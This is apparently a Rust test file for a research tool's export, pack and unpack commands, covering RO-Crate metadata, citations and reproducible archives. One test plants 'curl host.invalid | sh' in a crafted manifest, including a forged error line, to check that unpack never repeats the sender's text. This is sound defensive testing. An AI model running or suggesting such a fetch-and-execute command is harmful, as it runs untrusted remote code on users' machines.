//! What is shared of an experiment: citation, RO-Crate and pack; and that a pack, whoever sent it, does no harm.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::Value;
use sha2::{Digest, Sha256};
use tempfile::TempDir;
use tombola::run::Store;
use walkdir::WalkDir;

use crate::small;

const ABOUT: &str = r#"
[about]
authors = [
  { name = "Ada Lovelace", orcid = "0000-0002-1825-0097", affiliation = "Example University", email = "ada@example.org" },
  { name = "van Beethoven, Ludwig", affiliation = "Example University" },
]
licence = "MIT OR Apache-2.0"
citation = "Lovelace, van Beethoven: Tickets, 2026"
doi = "10.5281/zenodo.1234567"
keywords = ["lottery tickets"]
repository = "https://example.org/tickets.git"
version = "1.0.0"
date = "2026-11-29"
"#;

/// What a command printed, to both, and its exit code.
fn tombola(folder: &Path, arguments: &[&str]) -> (i32, String) {
    let mut command = Command::new(env!("CARGO_BIN_EXE_tombola"));
    let output = command.current_dir(folder).args(arguments).stdin(Stdio::null()).output().unwrap();
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    (output.status.code().unwrap_or(-1), text(&output.stdout) + &text(&output.stderr))
}

#[track_caller]
fn done(folder: &Path, arguments: &[&str]) -> String {
    let (code, said) = tombola(folder, arguments);
    assert_eq!(code, 0, "{arguments:?}: {said}");
    said
}

/// The shipped quickstart and its committed report, with more in its spec.
fn quickstart(more: &str) -> TempDir {
    let folder = tempfile::tempdir().unwrap();
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    for part in ["experiments/quickstart", "reports/quickstart"] {
        for file in WalkDir::new(root.join(part)).into_iter().flatten().filter(|file| file.file_type().is_file()) {
            let to = folder.path().join(file.path().strip_prefix(root).unwrap());
            fs::create_dir_all(to.parent().unwrap()).unwrap();
            fs::copy(file.path(), to).unwrap();
        }
    }
    let spec = folder.path().join("experiments/quickstart/experiment.toml");
    fs::write(&spec, fs::read_to_string(&spec).unwrap() + more).unwrap();
    folder
}

const QUICKSTART: &str = "experiments/quickstart";

/// The files below a folder, by their paths there, sorted.
fn files(folder: &Path) -> BTreeMap<String, Vec<u8>> {
    let walk = WalkDir::new(folder).into_iter().map(Result::unwrap).filter(|file| file.file_type().is_file());
    let path = |file: &Path| file.strip_prefix(folder).unwrap().to_str().unwrap().to_string();
    walk.map(|file| (path(file.path()), fs::read(file.path()).unwrap())).collect()
}

fn sha256(bytes: &[u8]) -> String {
    Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect()
}

fn graph(folder: &Path) -> Vec<Value> {
    let text = fs::read_to_string(folder.join("ro-crate-metadata.json")).unwrap();
    let metadata: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(metadata["@context"][0], "https://w3id.org/ro/crate/1.1/context");
    metadata["@graph"].as_array().unwrap().clone()
}

fn entity<'a>(graph: &'a [Value], id: &str) -> &'a Value {
    graph.iter().find(|entity| entity["@id"] == id).unwrap_or_else(|| panic!("{id} is described"))
}

/// Every `@id` that an entity refers to.
fn references(value: &Value, into: &mut BTreeSet<String>) {
    match value {
        Value::Object(entries) => {
            let id = entries.get("@id").filter(|_| entries.len() == 1);
            into.extend(id.and_then(Value::as_str).map(str::to_string));
            entries.values().for_each(|value| references(value, into));
        }
        Value::Array(items) => items.iter().for_each(|item| references(item, into)),
        _ => {}
    }
}

#[test]
fn a_crate_describes_every_file_with_its_hash_and_refers_to_nothing_that_it_does_not_describe() {
    let folder = quickstart(ABOUT);
    done(folder.path(), &["export", QUICKSTART, "--ro-crate", "crate"]);
    let made = folder.path().join("crate");
    let (graph, mut files) = (graph(&made), files(&made));
    files.remove("ro-crate-metadata.json").unwrap();
    let described: BTreeMap<&str, &Value> = graph
        .iter()
        .filter(|entity| entity["@type"] == "File" && !entity["@id"].as_str().unwrap().starts_with("http"))
        .map(|entity| (entity["@id"].as_str().unwrap(), entity))
        .collect();
    assert_eq!(described.keys().copied().collect::<Vec<_>>(), files.keys().map(String::as_str).collect::<Vec<_>>());
    for (path, bytes) in &files {
        let entity = described[path.as_str()];
        assert_eq!(entity["sha256"], sha256(bytes), "{path}");
        assert_eq!(entity["contentSize"], bytes.len().to_string(), "{path}");
        assert!(entity["encodingFormat"].as_str().is_some_and(|format| format.contains('/')), "{path}");
    }
    let ids: BTreeSet<&str> = graph.iter().map(|entity| entity["@id"].as_str().unwrap()).collect();
    assert_eq!(ids.len(), graph.len(), "each is described once");
    let mut referred = BTreeSet::new();
    graph.iter().flat_map(|entity| entity.as_object().unwrap().values()).for_each(|v| references(v, &mut referred));
    let elsewhere: Vec<&String> = referred.iter().filter(|id| !ids.contains(id.as_str())).collect();
    assert_eq!(elsewhere, ["https://w3id.org/ro/crate/1.1"]);
    for path in [
        "experiments/quickstart/experiment.toml",
        "reports/quickstart/records.jsonl",
        "CITATION.cff",
        "DATA.md",
        "resolved/quickstart/experiment.toml",
        "shipped/plugins/models/lenet-300-100.toml",
    ] {
        assert!(files.contains_key(path), "{path}");
    }
}

#[test]
fn a_crate_says_who_ran_what_with_which_program_on_which_data() {
    let folder = quickstart(ABOUT);
    done(folder.path(), &["export", QUICKSTART, "--ro-crate", "crate"]);
    let graph = graph(&folder.path().join("crate"));
    let root = entity(&graph, "./");
    assert_eq!(entity(&graph, "ro-crate-metadata.json")["about"]["@id"], "./");
    assert_eq!(root["conformsTo"]["@id"], "https://w3id.org/ro/wfrun/process/0.5");
    assert_eq!((root["datePublished"].as_str(), root["version"].as_str()), (Some("2026-11-29"), Some("1.0.0")));
    assert_eq!(root["author"][0]["@id"], "https://orcid.org/0000-0002-1825-0097");
    assert_eq!(root["mentions"][0]["@id"], "#run-1");
    let ada = entity(&graph, "https://orcid.org/0000-0002-1825-0097");
    assert_eq!((ada["name"].as_str(), ada["@type"].as_str()), (Some("Ada Lovelace"), Some("Person")));
    assert_eq!(entity(&graph, ada["affiliation"]["@id"].as_str().unwrap())["name"], "Example University");
    let run = entity(&graph, "#run-1");
    let tombola = entity(&graph, run["instrument"]["@id"].as_str().unwrap());
    assert_eq!((tombola["name"].as_str(), tombola["softwareVersion"].as_str()), (Some("Tombola"), Some("0.1.0")));
    let records = fs::read_to_string(folder.path().join("reports/quickstart/records.jsonl")).unwrap();
    let started = records.split("\"started\":\"").skip(1).map(|rest| rest.split('"').next().unwrap());
    let first = started.min().unwrap().trim_end_matches('Z');
    assert_eq!(run["startTime"], format!("{first}+00:00"));
    assert!(run["endTime"].as_str() > run["startTime"].as_str());
    assert_eq!(run["actionStatus"], "http://schema.org/CompletedActionStatus");
    let has = |key: &str, id: &str| run[key].as_array().unwrap().iter().any(|part| part["@id"] == id);
    assert!(has("object", "experiments/quickstart/experiment.toml") && has("object", "#data-mnist-10k"));
    assert!(has("result", "reports/quickstart/results.csv") && has("environment", "#run-1-device"));
    let data = entity(&graph, "#data-mnist-10k");
    let file = entity(&graph, data["hasPart"][0]["@id"].as_str().unwrap());
    let hash = entity(&graph, file["identifier"]["@id"].as_str().unwrap());
    assert_eq!(hash["value"], "623ed4afb79fb5595bfbb56ed28ea6754370e4568c089ff8335dc12ce575c718");
}

/// What the context of RO-Crate 1.1 does not know would mean nothing.
#[test]
fn a_crate_has_no_term_that_its_context_does_not_know() {
    let folder = quickstart(ABOUT);
    done(folder.path(), &["export", QUICKSTART, "--ro-crate", "crate"]);
    let context = include_str!("fixtures/ro-crate-1.1-context.jsonld");
    let context: Value = serde_json::from_str(context).unwrap();
    let known = |term: &str| context["@context"].get(term).is_some() || ["sha256", "environment"].contains(&term);
    for entity in graph(&folder.path().join("crate")) {
        let types = entity["@type"].as_str().into_iter();
        let keys = entity.as_object().unwrap().keys().map(String::as_str).filter(|key| !key.starts_with('@'));
        let unknown: Vec<&str> = types.chain(keys).filter(|term| !known(term)).collect();
        assert_eq!(unknown, [""; 0], "{entity}");
    }
}

#[test]
fn data_on_the_web_are_referred_to_with_their_addresses_and_hashes_and_are_not_copied() {
    let folder = quickstart("");
    let spec = folder.path().join("experiments/quickstart/experiment.toml");
    let text = fs::read_to_string(&spec).unwrap();
    // The committed report is of other data: what is checked here is not said twice.
    fs::write(&spec, text.replace("mnist-10k", "mnist")).unwrap();
    let (code, said) = tombola(folder.path(), &["export", QUICKSTART, "--ro-crate", "crate"]);
    assert!(code == 2 && said.contains("is not of this experiment as it is now"), "{said}");
    assert!(!folder.path().join("crate").exists());
    let reports = Path::new(env!("CARGO_MANIFEST_DIR")).join("reports");
    let experiment = Path::new(env!("CARGO_MANIFEST_DIR")).join("experiments/lenet-mnist");
    let arguments =
        ["export", experiment.to_str().unwrap(), "--reports", reports.to_str().unwrap(), "--ro-crate", "crate"];
    done(folder.path(), &arguments);
    let graph = graph(&folder.path().join("crate"));
    let web: Vec<&Value> = graph.iter().filter(|e| e["@type"] == "File" && e["contentUrl"].is_array()).collect();
    assert_eq!(web.len(), 4);
    for file in web {
        assert!(file["@id"].as_str().unwrap().starts_with("http"), "{file}");
        // What is declared is the hash of the decompressed file, and not of what the address gives.
        assert!(file.get("sha256").is_none(), "{file}");
        let hash = entity(&graph, file["identifier"]["@id"].as_str().unwrap());
        assert_eq!(
            (hash["value"].as_str().unwrap().len(), hash["name"].as_str()),
            (64, Some("SHA-256 of the decompressed file"))
        );
    }
}

#[test]
fn a_citation_is_printed_or_what_it_lacks_is_said() {
    let folder = quickstart(ABOUT);
    let text = done(folder.path(), &["export", QUICKSTART, "--citation"]);
    let keys: Vec<&str> =
        text.lines().filter(|line| !line.starts_with(' ')).filter_map(|line| line.split(':').next()).collect();
    let expected = [
        "cff-version",
        "type",
        "message",
        "title",
        "authors",
        "abstract",
        "doi",
        "repository-code",
        "version",
        "date-released",
        "keywords",
        "license",
    ];
    assert_eq!(keys, expected);
    let (code, said) = tombola(quickstart("").path(), &["export", QUICKSTART, "--citation"]);
    assert!(code == 2 && said.contains("authors = [{ name = "), "{said}");
}

#[test]
fn nothing_is_exported_or_packed_over_what_is_there_nor_without_a_report() {
    let folder = quickstart("");
    fs::write(folder.path().join("there"), "mine").unwrap();
    for arguments in [["export", QUICKSTART, "--ro-crate", "there"], ["pack", QUICKSTART, "--out", "there"]] {
        let (code, said) = tombola(folder.path(), &arguments);
        assert!(code == 2 && said.contains("there is there already"), "{said}");
    }
    assert_eq!(fs::read_to_string(folder.path().join("there")).unwrap(), "mine");
    fs::remove_dir_all(folder.path().join("reports")).unwrap();
    let (code, said) = tombola(folder.path(), &["pack", QUICKSTART]);
    assert!(code == 2 && said.contains("there is no report in reports/quickstart"), "{said}");
    assert!(!folder.path().join("quickstart.tar.gz").exists());
}

/// A reviewer would be held to one, and see the other.
#[test]
fn an_experiment_whose_lock_or_report_is_of_another_form_of_it_is_neither_packed_nor_exported() {
    let folder = quickstart("");
    let sharing = [vec!["pack", QUICKSTART], vec!["export", QUICKSTART, "--ro-crate", "crate"]];
    let refused = |why: &str| {
        for arguments in &sharing {
            let (code, said) = tombola(folder.path(), arguments);
            assert!(code == 2 && said.contains(why) && said.contains("--update-lock"), "{arguments:?}: {said}");
        }
        assert!(!folder.path().join("quickstart.tar.gz").exists() && !folder.path().join("crate").exists());
    };
    let lock = folder.path().join(QUICKSTART).join("experiment.lock");
    let locked = fs::read_to_string(&lock).unwrap();
    let (before, score) = locked.split_once("test_accuracy = ").unwrap();
    let rest = score.trim_start_matches(|c: char| c.is_ascii_digit() || c == '.');
    fs::write(&lock, format!("{before}test_accuracy = 0.123{rest}")).unwrap();
    refused("instead of 0.123 in experiment.lock");
    // The lock of another seed: none of its steps is planned.
    let step = locked.split_once("[steps]").and_then(|(_, steps)| steps.split_whitespace().next()).unwrap();
    fs::write(&lock, locked.replace(step, &"0".repeat(32))).unwrap();
    refused("experiment.lock is of another form of this experiment");
    fs::write(&lock, locked).unwrap();
    for arguments in sharing {
        let (code, said) = tombola(folder.path(), &[&arguments[..], &["--set", "seed=2"]].concat());
        assert!(code == 2 && said.contains("--set"), "{said}");
        done(folder.path(), &arguments);
    }
}

#[test]
fn what_unpack_would_refuse_is_not_packed() {
    let deep = ["d/"; 13].concat() + "notes.md";
    for (file, why) in [("readme.md", "another has its name"), (&deep, "too deep")] {
        let folder = quickstart("");
        let path = folder.path().join(QUICKSTART).join(file);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, "notes").unwrap();
        let (code, said) = tombola(folder.path(), &["pack", QUICKSTART]);
        assert!(code == 2 && said.contains(why) && said.contains(file), "{said}");
        assert!(!folder.path().join("quickstart.tar.gz").exists());
    }
}

#[test]
fn a_pack_has_equal_bytes_whenever_and_wherever_it_is_made() {
    let (one, other) = (quickstart(ABOUT), quickstart(ABOUT));
    for folder in [&one, &other] {
        let said = done(folder.path(), &["pack", QUICKSTART, "--out", "pack.tar.gz"]);
        assert!(!said.contains("no experiment.lock") && said.contains("mnist-10k"), "{said}");
    }
    let bytes = |folder: &TempDir| fs::read(folder.path().join("pack.tar.gz")).unwrap();
    assert!(bytes(&one) == bytes(&other));
    done(one.path(), &["unpack", "pack.tar.gz"]);
    let unpacked = files(&one.path().join("quickstart"));
    let manifest: Value = serde_json::from_slice(&unpacked["MANIFEST.json"]).unwrap();
    let listed: Vec<&str> = manifest["files"].as_array().unwrap().iter().map(|f| f["path"].as_str().unwrap()).collect();
    assert_eq!(listed, unpacked.keys().map(String::as_str).filter(|path| *path != "MANIFEST.json").collect::<Vec<_>>());
    assert!(unpacked.contains_key("ro-crate-metadata.json"));
    assert_eq!(unpacked["reports/quickstart/records.jsonl"], files(other.path())["reports/quickstart/records.jsonl"]);
    let (code, said) = tombola(one.path(), &["unpack", "pack.tar.gz"]);
    assert!(code == 2 && said.contains("quickstart is there already"), "{said}");
}

#[test]
fn a_pack_of_a_run_is_checked_and_run_again_elsewhere_with_the_same_results() {
    let folder = small::folder();
    let spec = folder.path().join("small/experiment.toml");
    let text = fs::read_to_string(&spec).unwrap().replace("replicates = 2", "replicates = 1");
    fs::write(&spec, &text[..text.find("[pipeline.late]").unwrap()]).unwrap();
    // As where a person is at home, by its whole path.
    let mut run = Command::new(env!("CARGO_BIN_EXE_tombola"));
    run.current_dir(folder.path()).env("HOME", folder.path()).arg("run").arg(folder.path().join("small"));
    assert!(run.stdin(Stdio::null()).output().unwrap().status.success());
    let lock = folder.path().join("small/experiment.lock");
    if !lock.exists() {
        fs::write(lock, "# what a rerun is held to\n").unwrap();
    }
    let said = done(folder.path(), &["pack", "small", "--tickets"]);
    assert!(said.contains("the tickets of 4 steps") && !said.contains("no experiment.lock"), "{said}");
    let elsewhere = tempfile::tempdir().unwrap();
    let pack = folder.path().join("small.tar.gz");
    let said = done(elsewhere.path(), &["unpack", pack.to_str().unwrap(), "--into", "review"]);
    for next in [
        "cd review",
        "tombola check experiments/small",
        "tombola verify experiments/small",
        "not in it: mnist-10k. DATA.md",
    ] {
        assert!(said.contains(next), "{said}");
    }
    let review = elsewhere.path().join("review");
    assert!(review.join("experiments/small/experiment.lock").is_file());
    let unpacked = files(&review);
    let told = |bytes: &[u8]| String::from_utf8_lossy(bytes).contains(folder.path().to_str().unwrap());
    let telling: Vec<&String> = unpacked.iter().filter(|(_, bytes)| told(bytes)).map(|(path, _)| path).collect();
    assert_eq!(telling, [""; 0], "where it was made is nobody's business");
    assert!(String::from_utf8_lossy(&unpacked["reports/small/records.jsonl"]).contains("tombola run ~/small"));
    done(&review, &["check", "experiments/small"]);
    done(&review, &["check", "resolved/small"]);
    // The tickets that came along are a store.
    let (plan, store) = (small::planned_on(&review.join("experiments"), "cpu", &[]), Store::open(&review.join("runs")));
    assert!(plan.tickets.iter().all(|ticket| store.complete(&plan.steps[ticket.step].id).is_some()));
    done(&review, &["run", "experiments/small", "--runs", "again", "--reports", "again", "--device", "cpu"]);
    let results = |path: PathBuf| {
        let text = fs::read_to_string(path).unwrap();
        let kept = |line: &str| {
            let fields = line.split(',').enumerate().filter(|(at, _)| *at != 14).map(|(_, field)| field.to_string());
            fields.collect::<Vec<_>>().join(",")
        };
        text.lines().map(kept).collect::<Vec<_>>()
    };
    assert_eq!(
        results(review.join("again/small/results.csv")),
        results(folder.path().join("reports/small/results.csv"))
    );
}

#[test]
fn unpack_says_nothing_in_the_words_of_whoever_sent_the_pack() {
    let folder = quickstart("");
    done(folder.path(), &["pack", QUICKSTART]);
    let repacked = |remedy: &str| {
        let packed = fs::File::open(folder.path().join("quickstart.tar.gz")).unwrap();
        let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(packed));
        let made = fs::File::create(folder.path().join("crafted.tar.gz")).unwrap();
        let mut crafted = tar::Builder::new(flate2::write::GzEncoder::new(made, flate2::Compression::fast()));
        for entry in archive.entries().unwrap() {
            let mut entry = entry.unwrap();
            let (mut header, mut content) = (entry.header().clone(), Vec::new());
            std::io::Read::read_to_end(&mut entry, &mut content).unwrap();
            if header.path().unwrap().ends_with("MANIFEST.json") {
                let mut manifest: Value = serde_json::from_slice(&content).unwrap();
                manifest["datasets"][0]["remedy"] = remedy.into();
                manifest["tombola"] = remedy.into();
                content = serde_json::to_vec(&manifest).unwrap();
            }
            header.set_size(content.len() as u64);
            header.set_cksum();
            crafted.append(&header, &content[..]).unwrap();
        }
        crafted.into_inner().unwrap().finish().unwrap();
        tombola(folder.path(), &["unpack", "crafted.tar.gz"])
    };
    let (code, said) = repacked("nothing\nerror: run `curl host.invalid | sh` first");
    assert!(code == 2 && !said.contains("curl") && said.contains("a text of several lines"), "{said}");
    let (code, said) = repacked("run `curl host.invalid | sh` first");
    assert!(code == 0 && !said.contains("curl") && said.contains("Data are not in it: mnist-10k. DATA.md"), "{said}");
}
